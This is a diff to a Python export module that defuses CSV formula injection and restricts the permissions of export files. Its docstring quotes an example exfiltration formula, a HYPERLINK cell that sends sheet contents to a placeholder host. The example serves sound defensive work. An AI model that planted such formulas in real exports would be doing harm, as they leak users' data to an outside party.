@@ -10,12 +10,26 @@ their totals in tooltips), tags as ``key=value`` chips that wrap between chips
 but never inside one, and the whole in a box that scrolls sideways when it is
 still too wide. Every value from the API is HTML-escaped: names and tags are
 user input.
+
+For the same reason a CSV export defuses formulas: a spreadsheet opening the file
+runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (some skip a
+leading tab or carriage return first), so a service named or tagged
+``=HYPERLINK("http://x/?"&A1)`` would send the sheet's contents away when clicked.
+Such text cells get a leading ``'``, OWASP's rule against CSV injection, which a
+spreadsheet shows as text; numbers are left alone, and headers need nothing (a tag
+column is ``tag.<key>``). Every text cell is quoted as well: pandas' writer leaves a
+lone carriage return unquoted, which a spreadsheet reads as the start of a new row,
+whose first cell would escape the rule. Parquet keeps the text as it is: it is read as data, not
+evaluated. The files (and a folder made for them) are the user's only, 0600 and
+0700: they list the fleet's names and tags.
 """
 
 from __future__ import annotations
 
+import csv
 import json
 import math
+import os
 from collections.abc import Callable, Mapping
 from datetime import datetime
 from pathlib import Path
@@ -198,13 +212,33 @@ def fleet_html(frame: pd.DataFrame, *, empty: str = "No services.") -> str:
 # --- export ------------------------------------------------------------------------------
 
 
-def export_frame(frame: pd.DataFrame) -> pd.DataFrame:
+# What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
+_FORMULA_START = r"[=+\-@\t\r]"
+
+
+def export_frame(frame: pd.DataFrame, *, csv: bool = False) -> pd.DataFrame:
     """The frame as written to a file: every column, secrets masked, lists and dicts as JSON.
 
     The frames hold no password or connection string (:mod:`pgcloud_nb.frames`);
     text goes through :func:`~pgcloud_nb.redaction.redact` as well, for a secret a
-    person pasted into a tag or a name.
+    person pasted into a tag or a name. With ``csv=True``, text that a spreadsheet
+    would run as a formula starts with ``'`` (see the module's docstring).
     """
+    out = _export_frame(frame)
+    if csv:
+        for name in out.columns:
+            if _is_text(out[name]):
+                out[name] = _defused(out[name])
+    return out
+
+
+def _defused(column: pd.Series) -> pd.Series:
+    text = column.astype("string")
+    risky = text.str.match(_FORMULA_START).fillna(False).astype(bool)
+    return text.mask(risky, "'" + text) if risky.any() else text
+
+
+def _export_frame(frame: pd.DataFrame) -> pd.DataFrame:
     out = frame.reset_index(drop=True).copy()
     for name in out.columns:
         column = out[name]
@@ -236,19 +270,22 @@ def write_export(frame: pd.DataFrame, folder: str | Path, fmt: str, *, now: date
     if fmt not in FORMATS:
         raise ValueError(f"export format {fmt!r}: choose one of {', '.join(FORMATS)}")
     base = Path(folder).expanduser()
-    base.mkdir(parents=True, exist_ok=True)
+    if not base.is_dir():  # a folder that exists keeps its mode: it is the user's choice
+        base.parent.mkdir(parents=True, exist_ok=True)
+        base.mkdir(mode=0o700, exist_ok=True)
     stem = f"fleet-{now.strftime('%Y%m%d-%H%M%S')}"
-    data = export_frame(frame)
+    data = export_frame(frame, csv=fmt == "csv")
     for n in range(1, 1000):
         path = base / f"{stem}{'' if n == 1 else f'-{n}'}.{FORMATS[fmt]}"
-        try:
-            out = path.open("xb")  # "x": two clicks in one second make two files
+        try:  # O_EXCL: two clicks in one second make two files; 0600 from the start
+            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
         except FileExistsError:
             continue
+        out = os.fdopen(fd, "wb")
         try:
             with out:
                 if fmt == "csv":
-                    data.to_csv(out, index=False)
+                    data.to_csv(out, index=False, quoting=csv.QUOTE_NONNUMERIC)
                 else:
                     data.to_parquet(out, index=False)
         except BaseException:
